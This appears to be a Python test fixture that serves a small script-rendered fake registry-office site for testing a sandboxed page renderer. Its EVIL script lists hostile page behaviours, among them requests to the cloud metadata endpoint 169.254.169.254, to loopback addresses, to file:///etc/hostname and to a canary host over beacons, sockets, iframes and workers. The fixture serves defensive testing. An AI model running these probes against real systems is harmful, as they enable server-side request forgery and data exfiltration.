"""Sites whose pages are filled by scripts, as they are met in the world: for the tests of rendering."""

from collections.abc import Mapping

from small_sites import Reply, SmallSite, robots

SCRIPT = {"Content-Type": "text/javascript; charset=utf-8"}
JSON = {"Content-Type": "application/json"}
SHELL = (
    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Exia</title></head><body>'
    '<noscript>Enable JavaScript</noscript><div id="root"></div><script src="/app.js"></script></body></html>'
)
SERVICE = """<main><h1>Issue of a birth certificate</h1>
<p>Any citizen of Exia may ask for a birth certificate.</p>
<h2>Required documents</h2><ul><li>Passport</li><li>Hospital record of the birth</li></ul>
<h2>Fee</h2><p>The service is free of charge.</p><h2>Processing time</h2><p>3 working days.</p></main>"""
_HOME = f"""<h1>Services</h1><p>{"All services of the registry office of Exia. " * 8}</p>
<a href="/birth">Birth certificate</a>"""
_APP = """fetch("/api" + location.pathname).then(a => a.text()).then(html => {
  document.getElementById("root").innerHTML = html;
});"""
# What a page might try beside filling itself. CANARY: a host that nobody may ask for.
EVIL = """
const canary = "CANARY";
const tries = [
  () => fetch("http://" + canary + "/fetch", {mode: "no-cors"}),
  () => fetch("http://2130706433:" + canary.split(":")[1] + "/decimal", {mode: "no-cors"}),
  () => fetch("http://localhost:" + canary.split(":")[1] + "/name", {mode: "no-cors"}),
  () => fetch("http://169.254.169.254/latest/meta-data/", {mode: "no-cors"}),
  () => fetch("/leads-away"),
  () => fetch("file:///etc/hostname"),
  () => fetch("/api/post", {method: "POST", body: "x"}),
  () => fetch("/private/list"),
  () => navigator.sendBeacon("http://" + canary + "/beacon", "x"),
  () => new WebSocket("ws://" + canary + "/socket"),
  () => new EventSource("http://" + canary + "/events"),
  () => window.open("http://" + canary + "/window"),
  () => { new Image().src = "http://" + canary + "/image"; },
  () => { const f = document.createElement("iframe"); f.src = "http://" + canary + "/frame";
          document.body.append(f); },
  () => { const l = document.createElement("link"); l.rel = "prefetch";
           l.href = "http://" + canary + "/prefetch";
           document.head.append(l); },
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://" + canary;
           document.head.append(l); },
  () => new RTCPeerConnection({iceServers: [{urls: "stun:" + canary}]}).createDataChannel("x"),
  () => navigator.serviceWorker.register("/worker.js"),
  () => new Worker("http://" + canary + "/worker"),
  () => import("http://" + canary + "/module.js"),
  () => alert("hello"),
  () => { location.href = "http://" + canary + "/location"; },
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => 0); } catch (e) { /* go on */ } }
"""


def script_site(more: Mapping[str, Reply] | None = None, app: str = "") -> SmallSite:
    """Return a site of two pages that its script fills; `app`: what the script does first."""
    return SmallSite(
        {
            "/robots.txt": robots("User-agent: *\nDisallow: /private/"),
            "/": Reply(SHELL.encode()),
            "/birth": Reply(SHELL.encode()),
            "/app.js": Reply((app + _APP).encode(), headers=SCRIPT),
            "/api/": Reply(_HOME.encode(), headers=JSON),
            "/api/birth": Reply(SERVICE.encode(), headers=JSON),
        }
        | dict(more or {})
    )
